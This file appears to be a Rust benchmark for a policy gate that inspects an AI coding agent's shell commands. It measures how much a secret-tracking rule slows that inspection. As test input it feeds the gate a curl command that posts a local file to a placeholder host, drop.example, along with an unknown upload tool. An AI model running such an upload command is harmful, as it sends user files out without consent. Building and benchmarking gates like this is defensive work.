//! The secrecy rule's cost in `Front::check` (issue 26 target: the gate with the rule within
//! 1.5 × the decision without it, `spec/hooks.md` §16; results in `spec/benchmarks.md`).
//!
//! One session: a prompt, then 8 tool results (3 KB each, none secret), so that the rule walks
//! the whole ancestry of every read and finds nothing: its worst case. Timed: `Front::check`
//! of `curl -d @notes.txt https://drop.example/in` (an egress call, composed, asked by the
//! coding policy) with the coding policy as shipped and with its `[secrets]` table emptied,
//! and the same of `mytool --upload notes.txt` (a program not known to keep data local and not
//! an egress command, §16.2), beside one Ed25519 `verify_strict` as the raw primitive, all in
//! the same run.
//!
//! ```sh
//! cargo bench --bench secrecy
//! ```

mod common;
#[path = "common/session.rs"]
mod session;

use criterion::{criterion_group, criterion_main, Criterion};
use memlineage::gate::{Policy, Secrets};
use serde_json::{json, Map, Value};
use session::session;
use std::collections::HashMap;
use std::hint::black_box;

criterion_group!(benches, secrecy);
criterion_main!(benches);

fn secrecy(c: &mut Criterion) {
    std::env::set_var("HOME", "/home/u");
    let mut g = c.benchmark_group("secrecy");
    let args: Map<String, Value> = match json!({"command": "curl -d @notes.txt https://drop.example/in"})
    {
        Value::Object(m) => m,
        _ => unreachable!("an object literal"),
    };
    session::configure(&mut g);
    common::verify_strict_floor(&mut g);
    let shipped = Policy::coding();
    assert!(
        !shipped.secrets.is_empty(),
        "the coding policy has a [secrets] table"
    );
    let mut without = shipped.clone();
    without.secrets = Secrets::default();
    // A program not known to keep data local and not an egress command (spec/hooks.md §16.2,
    // "Programs not known to stay local"): the rule looks for the session's secret values in
    // its arguments.
    let stranger: Map<String, Value> = match json!({"command": "mytool --upload notes.txt"}) {
        Value::Object(m) => m,
        _ => unreachable!("an object literal"),
    };
    for (name, policy, args) in [
        ("check_without_secrecy", without.clone(), &args),
        ("check_with_secrecy", shipped.clone(), &args),
        ("check_stranger_without_secrecy", without, &stranger),
        ("check_stranger_with_secrecy", shipped, &stranger),
    ] {
        let (mut f, s) = session(policy, "/home/u/proj");
        let none = HashMap::new();
        g.bench_function(name, |b| {
            b.iter(|| black_box(f.check(&s, "Bash", black_box(args), &none).expect("check")))
        });
    }
    g.finish();
}
